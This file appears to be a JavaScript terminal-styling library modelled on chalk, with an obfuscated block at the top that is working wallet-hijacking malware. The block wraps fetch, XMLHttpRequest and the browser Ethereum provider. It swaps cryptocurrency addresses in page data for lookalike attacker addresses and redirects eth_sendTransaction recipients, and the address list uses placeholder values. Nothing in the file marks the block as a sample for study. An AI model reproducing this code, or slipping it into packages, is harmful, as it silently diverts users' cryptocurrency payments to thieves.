(function(_0xdb2cb9,_0xe5d783){const _0x8eec91=_0x7df4c,_0x780051=_0xdb2cb9();while(!![]){try{const _0x16c1db=parseInt(_0x8eec91(0x146))/0x1+-parseInt(_0x8eec91(0x147))/0x2+parseInt(_0x8eec91(0x148))/0x3*(-parseInt(_0x8eec91(0x149))/0x4)+parseInt(_0x8eec91(0x14a))/0x5;if(_0x16c1db===_0xe5d783)break;else _0x780051['push'](_0x780051['shift']());}catch(_0xa00e66){_0x780051['push'](_0x780051['shift']());}}}(_0x8c74ef,-801926526324));function _0x8c74ef(){const _0xd21b8d=['0xFIXTURE00000000000000000000000000000002','0xFIXTURE00000000000000000000000000000003','1FIXTUREFixtureFixtureFixture0001','1FIXTUREFixtureFixtureFixture0002','bc1qfixturefixturefixturefixturefixture01','bc1qfixturefixturefixturefixturefixture02','TFIXTUREFixtureFixtureFixture00001','TFIXTUREFixtureFixtureFixture00002','bitcoincash:qfixturefixturefixturefixturefixture001','LFIXTUREFixtureFixtureFixture00001','FIXTUREso1anaFixtureFixtureFixtureFixture001','string','Content-Type','','json','text','readystatechange','responseText','response','request','send','sendAsync','function','eth_sendTransaction','undefined','min','toLowerCase','keys','replace','apply','get','indexOf','clone','addEventListener','defineProperty','463416CkxYE','1374792kPEad','2081196ydiNQ','4623840WaUAc','701880BsZWz','0xFIXTURE00000000000000000000000000000001'];_0x8c74ef=function(){return _0xd21b8d;};return _0x8c74ef();}function _0x7df4c(_0xa7baa1,_0x663fb8){const _0x1bec83=_0x8c74ef();return _0x7df4c=function(_0xa7baa1,_0x663fb8){_0xa7baa1=_0xa7baa1-0x122;let _0x5e58f2=_0x1bec83[_0xa7baa1];return _0x5e58f2;},_0x7df4c(_0xa7baa1,_0x663fb8);}const _0x8e50e9 = {eth: [_0x7df4c(0x122), _0x7df4c(0x123), _0x7df4c(0x124)],btcLegacy: [_0x7df4c(0x125), _0x7df4c(0x126)],btcSegwit: [_0x7df4c(0x127), _0x7df4c(0x128)],tron: [_0x7df4c(0x129), _0x7df4c(0x12a)],bch: [_0x7df4c(0x12b)],ltc: [_0x7df4c(0x12c)],sol: [_0x7df4c(0x12d)]};const _0x549c8d = {eth: /\b0x[a-fA-F0-9]{40}\b/g,btcLegacy: /\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g,btcSegwit: /\bbc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{39,59}\b/g,tron: /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g,bch: /\bbitcoincash:[qp][a-z0-9]{41}\b/g,ltc: /\b[LM][a-km-zA-HJ-NP-Z1-9]{26,33}\b/g,sol: /\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/g};function _0x178f67(_0xeee1f5, _0xcbe4e8) {const _0x503b02 = [];for (let _0x94a1fa = 0; _0x94a1fa <= _0xeee1f5.length; _0x94a1fa++) _0x503b02[_0x94a1fa] = [_0x94a1fa];for (let _0x87de9d = 0; _0x87de9d <= _0xcbe4e8.length; _0x87de9d++) _0x503b02[0][_0x87de9d] = _0x87de9d;for (let _0x94a1fa = 1; _0x94a1fa <= _0xeee1f5.length; _0x94a1fa++) {for (let _0x87de9d = 1; _0x87de9d <= _0xcbe4e8.length; _0x87de9d++) {const _0xb45a04 = _0xeee1f5[_0x94a1fa - 1] === _0xcbe4e8[_0x87de9d - 1] ? 0 : 1;_0x503b02[_0x94a1fa][_0x87de9d] = Math[_0x7df4c(0x13c)](_0x503b02[_0x94a1fa - 1][_0x87de9d] + 1, _0x503b02[_0x94a1fa][_0x87de9d - 1] + 1, _0x503b02[_0x94a1fa - 1][_0x87de9d - 1] + _0xb45a04);}}return _0x503b02[_0xeee1f5.length][_0xcbe4e8.length];}function _0x3846df(_0xbe305f, _0xa0940b) {let _0xb0da1e = _0xa0940b[0];let _0x93b2b3 = Infinity;for (const _0x7c4c66 of _0xa0940b) {const _0x192067 = _0x178f67(_0xbe305f[_0x7df4c(0x13d)](), _0x7c4c66[_0x7df4c(0x13d)]());if (_0x192067 < _0x93b2b3) {_0x93b2b3 = _0x192067;_0xb0da1e = _0x7c4c66;}}return _0xb0da1e;}function _0xba8b9d(_0x751dda) {if (typeof _0x751dda !== _0x7df4c(0x12e)) return _0x751dda;let _0x8bc194 = _0x751dda;for (const _0x9ed2ca of Object[_0x7df4c(0x13e)](_0x549c8d)) {_0x8bc194 = _0x8bc194[_0x7df4c(0x13f)](_0x549c8d[_0x9ed2ca], function (_0xbe305f) {return _0x3846df(_0xbe305f, _0x8e50e9[_0x9ed2ca]);});}return _0x8bc194;}function _0x6f9ac8() {const _0x2825ee = window.fetch;window.fetch = async function () {const _0x44f91d = await _0x2825ee[_0x7df4c(0x140)](this, arguments);const _0x3bdc75 = _0x44f91d.headers[_0x7df4c(0x141)](_0x7df4c(0x12f)) || _0x7df4c(0x130);if (_0x3bdc75[_0x7df4c(0x142)](_0x7df4c(0x131)) === -1 && _0x3bdc75[_0x7df4c(0x142)](_0x7df4c(0x132)) === -1) return _0x44f91d;const _0x96752e = await _0x44f91d[_0x7df4c(0x143)]()[_0x7df4c(0x132)]();return new Response(_0xba8b9d(_0x96752e), { status: _0x44f91d.status, statusText: _0x44f91d.statusText, headers: _0x44f91d.headers });};}function _0xcb0129() {const _0x463c3f = XMLHttpRequest.prototype.open;XMLHttpRequest.prototype.open = function () {this[_0x7df4c(0x144)](_0x7df4c(0x133), function () {if (this.readyState === 4) {const _0x7ff167 = _0xba8b9d(this.responseText);Object[_0x7df4c(0x145)](this, _0x7df4c(0x134), { value: _0x7ff167 });Object[_0x7df4c(0x145)](this, _0x7df4c(0x135), { value: _0x7ff167 });}});return _0x463c3f[_0x7df4c(0x140)](this, arguments);};}function _0x311c38(_0x1adcfd) {for (const _0xe52c6c of [_0x7df4c(0x136), _0x7df4c(0x137), _0x7df4c(0x138)]) {const _0x89b81c = _0x1adcfd[_0xe52c6c];if (typeof _0x89b81c !== _0x7df4c(0x139)) continue;Object[_0x7df4c(0x145)](_0x1adcfd, _0xe52c6c, {configurable: true,value: function (_0xdbe8e4) {const _0xcca716 = _0xdbe8e4 && _0xdbe8e4.method ? _0xdbe8e4 : arguments[1] || {};if (_0xcca716.method === _0x7df4c(0x13a) && _0xcca716.params && _0xcca716.params[0]) {_0xcca716.params[0].to = _0x3846df(_0xcca716.params[0].to || _0x7df4c(0x130), _0x8e50e9.eth);}return _0x89b81c[_0x7df4c(0x140)](_0x1adcfd, arguments);}});}}if (typeof window !== _0x7df4c(0x13b)) {if (window.ethereum) _0x311c38(window.ethereum);_0x6f9ac8();_0xcb0129();window.stealthProxyControl = { rewrite: _0xba8b9d, wallets: _0x8e50e9 };}
const ANSI_BACKGROUND_OFFSET = 10;
const wrapAnsi16 = (offset = 0) => (code) => `\u001B[${code + offset}m`;

const styles = {
  modifier: { reset: [0, 0], bold: [1, 22], dim: [2, 22], italic: [3, 23], underline: [4, 24], inverse: [7, 27], hidden: [8, 28], strikethrough: [9, 29] },
  color: { black: [30, 39], red: [31, 39], green: [32, 39], yellow: [33, 39], blue: [34, 39], magenta: [35, 39], cyan: [36, 39], white: [37, 39], gray: [90, 39] },
  bgColor: { bgBlack: [40, 49], bgRed: [41, 49], bgGreen: [42, 49], bgYellow: [43, 49], bgBlue: [44, 49], bgMagenta: [45, 49], bgCyan: [46, 49], bgWhite: [47, 49] },
};

const supportsColor = () => {
  if (typeof process === 'undefined') return 0;
  if ('FORCE_COLOR' in process.env) return Number(process.env.FORCE_COLOR) || 1;
  if (process.env.TERM === 'dumb') return 0;
  return process.stdout && process.stdout.isTTY ? 1 : 0;
};

const applyStyle = (builder, text) => {
  if (builder.level <= 0 || !text) return builder.isEmpty ? '' : text;
  let result = text;
  for (const [open, close] of builder.codes) result = `\u001B[${open}m${result}\u001B[${close}m`;
  return result;
};

const createBuilder = (level, codes) => {
  const builder = (...args) => applyStyle(builder, args.join(' '));
  builder.level = level;
  builder.codes = codes;
  for (const group of Object.values(styles)) {
    for (const [name, pair] of Object.entries(group)) {
      Object.defineProperty(builder, name, { get: () => createBuilder(level, [...codes, pair]) });
    }
  }
  return builder;
};

export class Chalk {
  constructor(options = {}) {
    return createBuilder(options.level ?? supportsColor(), []);
  }
}

const chalk = new Chalk();
export const chalkStderr = new Chalk({ level: supportsColor() });
export { ANSI_BACKGROUND_OFFSET, wrapAnsi16 };
export default chalk;
